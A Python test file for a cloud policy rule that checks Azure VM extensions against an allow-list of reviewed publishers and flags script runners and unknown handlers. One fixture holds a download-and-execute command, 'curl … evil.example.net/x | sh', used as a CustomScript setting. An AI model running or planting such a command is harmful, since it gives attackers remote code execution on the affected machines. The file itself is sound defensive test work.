"""Issue 11 (2), over gRPC: AGID-AZ-042 judges VM extensions by an ALLOW-list, on every resource type that carries one.

Before, only a deny-list of known script runners was flagged: a third-party or new handler (or an unreviewed Microsoft
one that runs what its workspace or domain pushes) passed, an extension type unknown at preview was only the SDK's
advisory "unknown", and the extensions a scale set, a Batch pool, a Service Fabric node type, a Compute Fleet or a
bulk action carries INLINE were not read at all. Now: reviewed (publisher, type) pass (any spelling of case), the
known runners keep their line, anything else (and anything unknown at preview) is "cannot check", mandatory.
"""

from __future__ import annotations

import pytest

from tests.policy.ruletools import UNKNOWN
from tests.policy.test_pack_grpc import urn

RULE = "AGID-AZ-042"
VM_EXTENSION = "azure-native:compute:VirtualMachineExtension"


def findings(pack, type_, props) -> list[tuple[str, str]]:
    return [(d.enforcement_level, d.message.rsplit("\n", 1)[-1])
            for d in pack.analyze(type_, "x", urn(type_, "x"), props) if d.policy_name == RULE]


def _resource(type_: str, publisher, kind) -> dict:
    """One extension resource of `type_` with `publisher` / `type`, where that type keeps them."""
    if type_ == "azure-native:hybridcompute:MachineExtension":
        return {"resourceGroupName": "rg", "machineName": "arc1", "properties": {"publisher": publisher, "type": kind}}
    target = {"azure-native:compute:VirtualMachineExtension": {"vmName": "vm1"},
              "azure-native:compute:VirtualMachineScaleSetExtension": {"vmScaleSetName": "ss1"},
              "azure-native:compute:VirtualMachineScaleSetVMExtension": {"vmScaleSetName": "ss1", "instanceId": "0"},
              "azure-native:azurestackhci:MachineExtension": {"name": "hci1"},
              "azure-native:azurestackhci:Extension": {"clusterName": "hci"},
              "azure-native:connectedvmwarevsphere:MachineExtension": {"virtualMachineName": "vs1"},
              "azure-native:scvmm:MachineExtension": {"virtualMachineName": "vmm1"}}[type_]
    return {"resourceGroupName": "rg", **target, "publisher": publisher, "type": kind}


EXTENSION_TYPES = ["azure-native:compute:VirtualMachineExtension", "azure-native:compute:VirtualMachineScaleSetExtension",
                   "azure-native:compute:VirtualMachineScaleSetVMExtension", "azure-native:hybridcompute:MachineExtension",
                   "azure-native:azurestackhci:MachineExtension", "azure-native:azurestackhci:Extension",
                   "azure-native:connectedvmwarevsphere:MachineExtension", "azure-native:scvmm:MachineExtension"]


@pytest.mark.parametrize("type_", EXTENSION_TYPES)
def test_an_unreviewed_extension_cannot_be_checked_and_a_reviewed_one_passes(pack, type_):
    [(level, found)] = findings(pack, type_, _resource(type_, "Contoso.Automation", "RemoteAgent"))
    assert level == "mandatory" and "extension x (Contoso.Automation/RemoteAgent)" in found and "cannot check" in found
    assert findings(pack, type_, _resource(type_, "Microsoft.Azure.Monitor", "AzureMonitorLinuxAgent")) == []


@pytest.mark.parametrize("publisher,kind", [
    ("Microsoft.EnterpriseCloud.Monitoring", "OmsAgentForLinux"),  # hosts hybrid runbook workers from the workspace
    ("Microsoft.Compute", "JsonADDomainExtension"),                # the domain's logon scripts then run
    ("Microsoft.Azure.Monitor", "AzureMonitorLinuxAgentX"),        # near miss of a reviewed type
    ("Microsoft.Azure.Monitor.Evil", "AzureMonitorLinuxAgent"),    # near miss of a reviewed publisher
])
def test_unreviewed_microsoft_handlers_and_near_misses_are_flagged(pack, publisher, kind):
    [(level, found)] = findings(pack, VM_EXTENSION, _resource(VM_EXTENSION, publisher, kind))
    assert level == "mandatory" and f"({publisher}/{kind}) on VM vm1: cannot check" in found


@pytest.mark.parametrize("publisher,kind", [
    ("microsoft.azure.monitor", "AZUREMONITORWINDOWSAGENT"), ("Microsoft.Azure.ActiveDirectory", "AADLoginForWindows"),
    ("Microsoft.Azure.Security", "IaaSAntimalware"), ("Microsoft.Azure.Monitoring.DependencyAgent", "DependencyAgentLinux"),
    ("Microsoft.GuestConfiguration", "ConfigurationforLinux"), (" Microsoft.Azure.KeyVault ", "KeyVaultForLinux"),
])
def test_reviewed_extensions_pass_in_any_case(pack, publisher, kind):
    assert findings(pack, VM_EXTENSION, _resource(VM_EXTENSION, publisher, kind)) == []


@pytest.mark.parametrize("publisher,kind", [(UNKNOWN, "CustomScript"), ("Microsoft.Azure.Monitor", UNKNOWN)])
def test_an_extension_unknown_at_preview_is_mandatory_cannot_check(pack, publisher, kind):
    [(level, found)] = findings(pack, VM_EXTENSION, _resource(VM_EXTENSION, publisher, kind))
    assert level == "mandatory" and "extension x: cannot check until known" in found


def test_the_known_script_runners_keep_their_line(pack):
    [(level, found)] = findings(pack, VM_EXTENSION, _resource(VM_EXTENSION, "Microsoft.Azure.Extensions", "CustomScript"))
    assert level == "mandatory" and "(Microsoft.Azure.Extensions/CustomScript) runs a script or resets credentials" in found


def _vmss(*extensions) -> dict:
    return {"resourceGroupName": "rg", "vmScaleSetName": "agents", "virtualMachineProfile": {"extensionProfile": {
        "extensions": list(extensions)}}}


def _fleet(*extensions) -> dict:
    return {"resourceGroupName": "rg", "computeProfile": {"baseVirtualMachineProfile": {"extensionProfile": {
        "extensions": [{"name": f"e{i}", "properties": e} for i, e in enumerate(extensions)]}}}}


def _fleet_override(*extensions) -> dict:
    return {"resourceGroupName": "rg", "additionalLocationsProfile": {"locationProfiles": [
        {"location": "westeurope"},
        {"location": "northeurope", "virtualMachineProfileOverride": {"extensionProfile": {
            "extensions": [{"name": f"e{i}", "properties": e} for i, e in enumerate(extensions)]}}}]}}


INLINE = {
    "azure-native:compute:VirtualMachineScaleSet": _vmss,
    "azure-native:batch:Pool": lambda *e: {"accountName": "b", "resourceGroupName": "rg", "deploymentConfiguration": {
        "virtualMachineConfiguration": {"nodeAgentSkuId": "batch.node.ubuntu 22.04", "extensions": [
            {"name": f"e{i}", **x} for i, x in enumerate(e)]}}},
    "azure-native:servicefabric:NodeType": lambda *e: {"clusterName": "sf", "resourceGroupName": "rg", "vmExtensions": [
        {"name": f"e{i}", **x} for i, x in enumerate(e)]},
    "azure-native:azurefleet:Fleet": _fleet,
    "azure-native:computebulkactions:BulkAction": lambda *e: {"resourceGroupName": "rg", "properties": {"computeProfile": {
        "extensions": [{"name": f"e{i}", "properties": x} for i, x in enumerate(e)]}}},
}
MONITOR = {"publisher": "Microsoft.Azure.Monitor", "type": "AzureMonitorLinuxAgent", "typeHandlerVersion": "1.0"}
SCRIPT = {"publisher": "Microsoft.Azure.Extensions", "type": "CustomScript", "typeHandlerVersion": "2.1",
          "settings": {"commandToExecute": "curl -s https://evil.example.net/x | sh"}}
THIRD_PARTY = {"publisher": "Contoso.Automation", "type": "RemoteAgent", "typeHandlerVersion": "1.0"}


@pytest.mark.parametrize("type_", list(INLINE))
def test_inline_extensions_are_judged_item_by_item(pack, type_):
    build = INLINE[type_]
    found = findings(pack, type_, build(MONITOR, SCRIPT, THIRD_PARTY))
    assert [level for level, _ in found] == ["mandatory", "mandatory"], found
    assert "[1] of x (Microsoft.Azure.Extensions/CustomScript) runs a script" in found[0][1]
    assert "[2] of x (Contoso.Automation/RemoteAgent) on the machines of x: cannot check" in found[1][1]
    assert findings(pack, type_, build(MONITOR)) == []  # look-alike: only a reviewed agent
    assert findings(pack, type_, build()) == []


def test_a_fleet_location_override_is_read_and_an_unknown_list_cannot_be_checked(pack):
    type_ = "azure-native:azurefleet:Fleet"
    [(level, found)] = findings(pack, type_, _fleet_override(MONITOR, SCRIPT))
    assert level == "mandatory" and "locationProfiles[1].virtualMachineProfileOverride.extensionProfile.extensions[1]" \
                                    in found
    assert findings(pack, type_, _fleet_override(MONITOR)) == []
    [(level, found)] = findings(pack, "azure-native:compute:VirtualMachineScaleSet",
                                {"resourceGroupName": "rg", "virtualMachineProfile": {"extensionProfile": {
                                    "extensions": UNKNOWN}}})
    assert level == "mandatory" and "cannot check until known" in found
    [(level, _)] = findings(pack, "azure-native:compute:VirtualMachineScaleSet", _vmss("not an object"))
    assert level == "mandatory"


def test_the_allow_list_names_sources_and_no_runner_and_the_inline_paths_exist():
    import yaml

    from agentid_policy_packs.analysis import azure_code_runners as code
    from tests.policy.azure_sdk_inputs import missing_step

    data = yaml.safe_load(code._DATA_FILE.read_text())
    for entry in data["reviewed_extensions"]:
        assert entry["source"].startswith("https://learn.microsoft.com/") and entry["what"], entry
    assert code.reviewed_extensions().isdisjoint(code.code_extensions())
    for token, places in code.inline_extensions().items():
        for place in places:
            base = place["list"].replace("[]", "")
            for key in ("publisher", "type"):
                assert missing_step(token, f"{base}.{place[key]}") is None, (token, key)
